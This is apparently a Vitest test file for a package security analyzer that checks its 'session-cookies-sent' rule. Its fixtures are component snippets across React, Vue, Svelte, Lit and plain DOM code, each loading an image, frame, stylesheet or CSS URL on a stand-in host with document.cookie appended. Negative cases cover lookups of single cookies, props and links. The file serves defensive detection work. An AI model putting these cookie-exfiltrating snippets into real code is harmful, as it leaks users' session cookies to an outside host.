import { expect, test } from 'vitest';
import { analyzePackage } from '../../../../src/analyze/index.js';
import { ownRules, packageOf } from '../../in-memory.js';

const found = (code: string, file = 'index.mjs'): string[] =>
  analyzePackage(packageOf({ [file]: code }, { main: file }), ownRules()).findings.map(({ rule }) => rule);

const ADDRESS = "'https://icons.panel-kit.example/a.svg?v=' + encodeURIComponent(document.cookie)";

test.each([
  `import { createElement } from 'react'; export const A = () => createElement('img', { src: ${ADDRESS} });`,
  `import { createElement } from 'react'; export const A = (p) => createElement('img', { ...p, src: ${ADDRESS} });`,
  `import { jsx } from 'react/jsx-runtime'; export const A = () => jsx('iframe', { src: ${ADDRESS} });`,
  `import { h } from 'preact'; export const A = () => h('link', { rel: 'stylesheet', href: ${ADDRESS} });`,
  `export default { render(h) { return h('img', { attrs: { src: ${ADDRESS} } }); } };`,
  `import { openBlock as o, createElementBlock as c } from 'vue'; export const render = () => (o(), c('img', { src: ${ADDRESS} }, null, 8, ['src']));`,
  `import { setAttribute } from 'solid-js/web'; export const A = (el) => setAttribute(el, 'src', ${ADDRESS});`,
  `import { attr } from 'svelte/internal'; export const c = (el) => attr(el, 'src', ${ADDRESS});`,
  `import { html } from 'lit'; export const A = () => html\`<img src=\${${ADDRESS}}>\`;`,
  `import { html } from 'lit'; export const A = () => html\`<img src="https://icons.panel-kit.example/\${document.cookie}.svg">\`;`,
  `import { createElement } from 'react'; export const A = () => createElement('p', { style: { backgroundImage: 'url(' + ${ADDRESS} + ')' } });`,
  `import { createElement } from 'react'; export const A = () => createElement('p', { dangerouslySetInnerHTML: { __html: '<img src="' + ${ADDRESS} + '">' } });`,
  `export const show = (el) => { el.src = ${ADDRESS}; };`,
  `export const show = (el) => { el.style.backgroundImage = 'url(' + ${ADDRESS} + ')'; };`,
  `export const show = () => { document.querySelector('img').setAttribute('src', ${ADDRESS}); };`,
  `export const show = () => { document.documentElement.style.setProperty('--mark', 'url(' + ${ADDRESS} + ')'); };`,
])('what is rendered fetches what its attributes name: %s', (code) => {
  expect(found(code)).toContain('session-cookies-sent');
});

test('JSX is rendered, too', () => {
  expect(found(`export const A = () => <p><img src={${ADDRESS}} /></p>;`, 'index.jsx')).toContain(
    'session-cookies-sent',
  );
});

test.each([
  'document.cookie.match(/lang=(\\w+)/)[1]',
  '/lang=(\\w+)/.exec(document.cookie)[1]',
  "document.cookie.split('; ').find((each) => each.startsWith('lang=')).slice(5)",
  "document.cookie.replace(/(?:^|.*;\\s*)lang=([^;]*).*$/, '$1')",
])('one cookie that is looked up is not all of them: %s', (picked) => {
  const code = `import { createElement } from 'react'; export const A = () => createElement('img', { src: 'https://flags.example/' + ${picked} });`;
  expect(found(code)).not.toContain('session-cookies-sent');
});

test.each(['p.name', 'p.token', 'p.email', 'p.children'])('components show what they are given: %s', (given) => {
  const code = `import { createElement } from 'react'; export const A = (p) => createElement('img', { src: 'https://portraits.example/' + ${given} });`;
  expect(found(code)).toEqual([]);
});

test('a link is for who clicks on it', () => {
  const code = `import { createElement } from 'react'; export const A = () => createElement('a', { href: ${ADDRESS} });`;
  expect(found(code)).toEqual([]);
});
